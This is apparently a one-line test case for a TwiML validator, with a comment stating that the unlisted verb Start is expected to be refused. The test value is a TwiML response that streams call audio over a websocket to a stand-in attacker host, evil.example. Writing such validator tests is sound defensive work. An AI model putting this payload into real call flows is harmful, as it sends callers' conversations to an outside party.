# class: the verb Start, which is not listed; expected: refused twiml
response = "<Response><Start><Stream url='wss://evil.example/PWNED'/></Start></Response>"
